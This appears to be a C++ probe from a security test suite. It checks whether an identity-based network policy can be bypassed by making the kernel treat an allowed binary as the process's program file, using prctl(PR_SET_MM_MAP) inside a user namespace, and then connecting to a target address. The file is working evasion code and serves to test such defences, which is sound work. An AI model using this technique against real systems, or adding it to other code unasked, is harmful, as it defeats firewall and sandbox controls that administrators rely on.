// SPDX-License-Identifier: Apache-2.0
// exe_file namespace|shared ALLOWED ADDRESS: makes the kernel believe that ALLOWED is our program file, with
// prctl(PR_SET_MM_MAP), which asks only for a capability in the caller's own user namespace.
//   namespace   everything happens inside a user namespace of our own
//   shared      a child that shares our memory enters the user namespace and does it; we stay outside, and the
//               memory, whose program file it is, is ours as well
#include "attack.h"
#include "identity.h"

#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <bit>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <span>
#include <string>

namespace {

constexpr std::size_t kMappingsMax = 32;
constexpr std::size_t kStackSize = 256UL * 1024;
constexpr std::size_t kStatFields = 52;

struct Mapping {
    std::uintptr_t start = 0;
    std::size_t size = 0;
    int protection = 0;
};

/// The mappings of our own program file, from /proc/self/maps.
std::size_t own_mappings(std::span<Mapping> out)
{
    std::array<char, 512> path{};
    const ssize_t length = readlink("/proc/self/exe", path.data(), path.size() - 1);
    std::FILE* maps = std::fopen("/proc/self/maps", "re");
    if (length < 0 || maps == nullptr) {
        attack::cannot_try("/proc/self/maps", errno);
    }
    std::array<char, 1024> line{};
    std::size_t count = 0;
    while (count < out.size() && std::fgets(line.data(), line.size(), maps) != nullptr) {
        unsigned long start = 0;
        unsigned long end = 0;
        std::array<char, 5> mode{};
        if (std::sscanf(line.data(), "%lx-%lx %4s", &start, &end, mode.data()) == 3 &&
            std::strstr(line.data(), path.data()) != nullptr) {
            const int protection =
                (mode[0] == 'r' ? PROT_READ : 0) | (mode[1] == 'w' ? PROT_WRITE : 0) | (mode[2] == 'x' ? PROT_EXEC : 0);
            out[count++] = Mapping{start, end - start, protection};
        }
    }
    (void)std::fclose(maps);
    return count;
}

/// The kernel refuses the change while the old file is mapped: anonymous copies take the mappings' places.
void detach_from_own_file()
{
    std::array<Mapping, kMappingsMax> mappings{};
    const std::size_t count = own_mappings(mappings);
    for (const Mapping& mapping : std::span(mappings).first(count)) {
        void* copy = mmap(nullptr, mapping.size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED) {
            attack::cannot_try("mmap", errno);
        }
        std::memcpy(copy, std::bit_cast<const void*>(mapping.start), mapping.size);
        if (mprotect(copy, mapping.size, mapping.protection) != 0 ||
            mremap(copy, mapping.size, mapping.size, MREMAP_MAYMOVE | MREMAP_FIXED,
                   std::bit_cast<void*>(mapping.start)) == MAP_FAILED) {
            attack::cannot_try("mremap", errno);
        }
    }
}

/// Numeric fields of /proc/self/stat by their number in proc(5).
std::array<unsigned long, kStatFields + 1> stat_fields()
{
    std::array<char, 2048> text{};
    const int fd = open("/proc/self/stat", O_RDONLY | O_CLOEXEC);
    if (fd < 0 || read(fd, text.data(), text.size() - 1) <= 0) {
        attack::cannot_try("/proc/self/stat", errno);
    }
    (void)close(fd);
    std::array<unsigned long, kStatFields + 1> fields{};
    char* at = std::strrchr(text.data(), ')');
    at = at == nullptr ? text.data() : at + 4; // over the state letter, to field 4
    for (std::size_t field = 4; field <= kStatFields; ++field) {
        fields.at(field) = std::strtoul(at, &at, 10);
    }
    return fields;
}

/// 0 or an errno.
int claim_program_file(const char* path)
{
    const auto fields = stat_fields();
    prctl_mm_map map{};
    map.start_code = fields[26];
    map.end_code = fields[27];
    map.start_stack = fields[28];
    map.start_data = fields[45];
    map.end_data = fields[46];
    map.start_brk = fields[47];
    map.brk = std::bit_cast<std::uintptr_t>(sbrk(0));
    map.arg_start = fields[48];
    map.arg_end = fields[49];
    map.env_start = fields[50];
    map.env_end = fields[51];
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        return errno;
    }
    map.exe_fd = static_cast<__u32>(fd);
    const int status = prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0);
    const int error = errno;
    (void)close(fd);
    return status == 0 ? 0 : error;
}

int claim_in_child(void* path) { return claim_program_file(static_cast<const char*>(path)); }

/// The claim by a child in a user namespace of its own that shares our memory.
int claim_for_both(char* path)
{
    void* stack = mmap(nullptr, kStackSize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
    if (stack == MAP_FAILED) {
        return errno;
    }
    auto* top = static_cast<unsigned char*>(stack) + kStackSize;
    const pid_t child = clone(claim_in_child, top, CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, path);
    int status = 0;
    if (child < 0 || waitpid(child, &status, 0) != child) {
        return errno;
    }
    return WIFEXITED(status) ? WEXITSTATUS(status) : ECHILD;
}

} // namespace

int main(int argc, char** argv)
{
    if (argc != 4) {
        attack::usage("exe_file namespace|shared ALLOWED ADDRESS");
    }
    const attack::Target target = attack::require_target(argv[3]);
    const bool is_shared = std::strcmp(argv[1], "shared") == 0;
    if (!is_shared) {
        attack::enter_user_namespace(0);
    }
    detach_from_own_file();
    const int error = is_shared ? claim_for_both(argv[2]) : claim_program_file(argv[2]);
    const attack::Stopwatch watch;
    if (error == EPERM || error == EACCES) {
        attack::refused("prctl(PR_SET_MM_MAP)", error, watch);
    }
    if (error != 0) {
        attack::cannot_try("prctl(PR_SET_MM_MAP)", error);
    }
    const int fd = attack::make_socket(target.family(), SOCK_STREAM, 0, watch);
    attack::set_deadline(fd);
    if (connect(fd, target.raw(), target.size) != 0) {
        attack::refused("connect", errno, watch);
    }
    attack::exchange(fd, "a claimed program file", watch);
}
